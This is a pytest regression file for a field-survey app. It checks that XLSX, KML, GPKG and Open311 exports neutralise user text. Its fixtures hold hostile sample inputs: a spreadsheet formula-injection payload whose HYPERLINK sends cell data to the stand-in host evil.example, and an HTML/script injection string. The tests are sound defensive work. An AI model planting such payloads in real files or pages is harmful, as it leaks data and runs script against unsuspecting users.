"""Writers never run or break on what people type: spreadsheet text is text, KML text is not HTML, and
characters XML forbids (stored before the input rule existed, or by any other path) do not break a file.

Regression tests for the security review (item 2: XLSX formula injection; item 6: KML description as
HTML) and for the sync issue (control characters made the XLSX export 500 and the KML/Open311 XML invalid).
"""
from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
import sqlalchemy as sa
from defusedxml import ElementTree
from pyogrio import raw

from fieldapp.extensions import db
from fieldapp.models import Finding, Measure, ResponsibleParty
from fieldapp.services.demo import DEMO_SLUG, seed_demo

FORMULA = '=HYPERLINK("http://evil.example/?d="&W2,"Klicka")'
HTML = '<a href="http://evil.example">Klicka</a><script>alert(1)</script>'
# No NUL: PostgreSQL cannot store it at all (the input rule removes it before it gets there).
CONTROL = "Mörkt\x01\x08\x0b\x0c\x1b\x7f här\ufffe"


@pytest.fixture
def walk_with_hostile_text(app):
    """Notes written straight to the database, as a row stored before the input rule would be."""
    walk = seed_demo().walk
    findings = list(db.session.scalars(sa.select(Finding).where(Finding.walk_id == walk.id)
                                       .order_by(Finding.created_at, Finding.id)))
    findings[0].note, findings[0].internal_note = FORMULA, "+46 70 123 45 67"
    findings[1].note = HTML
    findings[2].note = CONTROL
    party = ResponsibleParty(name="Gatu\x07enheten", kind="municipal")
    db.session.add(party)
    db.session.flush()
    db.session.add(
        Measure(finding_id=findings[0].id, proposal="@SUM(1+1)\x1f", responsible_party_id=party.id)
    )
    db.session.commit()
    return walk


def export(client, fmt: str) -> bytes:
    response = client.get(f"/staff/walks/{DEMO_SLUG}/export.{fmt}")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return response.get_data()


def test_item2_xlsx_writes_text_as_text_never_as_a_formula(staff_client, walk_with_hostile_text):
    data = export(staff_client, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        for name in sheets:
            assert b"<f>" not in archive.read(name), f"a formula cell in {name}"
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    values = [cell.value for row in workbook.worksheets[0].iter_rows() for cell in row]
    assert FORMULA in values and "@SUM(1+1)" in values
    cells = [cell for row in workbook.worksheets[0].iter_rows() for cell in row if cell.value == FORMULA]
    assert all(cell.data_type == "s" for cell in cells)
    assert "Mörkt här" in values  # control characters dropped, the text kept


def test_item6_kml_description_is_text_not_html_and_the_file_parses(staff_client, walk_with_hostile_text):
    data = export(staff_client, "kml")
    root = ElementTree.fromstring(data)
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    descriptions = [d.text or "" for d in root.iterfind(".//k:Placemark/k:description", ns)]
    html_one = next(d for d in descriptions if "Klicka&lt;/a&gt;" in d)
    assert "<a " not in html_one and "<script>" not in html_one
    assert "&lt;a href=" in html_one  # shown as the text the participant typed
    assert any("Mörkt här" in d for d in descriptions)


def test_control_characters_do_not_break_any_export(staff_client, walk_with_hostile_text, tmp_path):
    for fmt in ("csv", "geojson", "zip"):
        export(staff_client, fmt)
    path = tmp_path / "walk.gpkg"
    path.write_bytes(export(staff_client, "gpkg"))
    meta, _, _, fields = raw.read(path, layer="findings")
    notes = fields[list(meta["fields"]).index("note")]
    assert any(
        note.startswith("Mörkt") and note.endswith("här\ufffe") for note in notes
    )  # SQLite text holds them
    xml = staff_client.get("/open311/v2/requests.xml")
    assert xml.status_code == 200
    ElementTree.fromstring(xml.get_data())
